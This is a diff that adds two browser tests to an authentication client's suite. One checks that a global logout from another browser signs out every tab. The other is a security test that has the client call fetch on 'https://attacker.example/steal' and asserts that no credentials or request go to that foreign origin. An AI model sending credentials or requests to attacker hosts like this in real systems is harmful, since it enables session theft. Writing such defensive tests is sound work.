@@ -510,6 +510,64 @@ describe('many tabs of one origin', () => {
     await context.close();
   }, 30_000);
 
+  it('logoutEverywhere in another browser signs out every tab here at its next request', async () => {
+    const errorsBefore = consoleErrors.length;
+    const here = await browser.newContext();
+    const tabs = [await openTab(here, 'hybrid'), await openTab(here, 'hybrid')];
+    const [first, second] = tabs as [Page, Page];
+    const email = await signIn(first);
+    await waitSignedIn(second);
+    const elsewhere = await browser.newContext();
+    const other = await openTab(elsewhere, 'token');
+    const revoked = await other.evaluate(
+      async ({ address, password }) => {
+        const { client } = globalThis as unknown as PageWindow;
+        await client.login({ email: address, password });
+        return client.logoutEverywhere();
+      },
+      { address: email, password: PASSWORD },
+    );
+    expect(revoked).toBe(2);
+    expect((await stateOf(other)).status).toBe('signed-out');
+    // The leader's next refresh may come first (400 invalid_grant, cookies cleared): either way,
+    // the session is gone and both tabs are signed out.
+    const refusal = await meRefusal(first);
+    expect(refusal).toMatchObject({ typed: true, status: 401 });
+    expect(['session_revoked', 'unauthenticated']).toContain(refusal?.code);
+    for (const tab of tabs) expect((await stateOf(tab)).status).toBe('signed-out');
+    // That refused refresh is the one console error this test may cause.
+    const caused = consoleErrors.splice(errorsBefore);
+    for (const text of caused) expect(text).toMatch(/status of (400 \(Bad Request\)|401 \(Unauthorized\))/);
+    const reasons = await second.evaluate(() =>
+      (globalThis as unknown as PageWindow).events.map((e) => e.reason),
+    );
+    expect(reasons).toContain('other-tab-logout');
+    await here.close();
+    await elsewhere.close();
+  });
+
+  it('fetch() never sends the credentials to another origin', async () => {
+    const context = await browser.newContext();
+    const page = await openTab(context, 'token');
+    await signIn(page);
+    const sent: string[] = [];
+    context.on('request', (request) => sent.push(request.url()));
+    const refusal = await page.evaluate(async () => {
+      const { client } = globalThis as unknown as PageWindow;
+      try {
+        await client.fetch('https://attacker.example/steal');
+        return null;
+      } catch (error) {
+        return String(error);
+      }
+    });
+    expect(refusal).toMatch(
+      /^TypeError: fetch\(\) authenticates requests to http:\/\/127\.0\.0\.1:\d+ only$/,
+    );
+    expect(sent.filter((url) => url.includes('attacker'))).toEqual([]);
+    await context.close();
+  });
+
   it('logs no console error in any page', () => {
     expect(unexpectedConsoleErrors()).toEqual([]);
   });
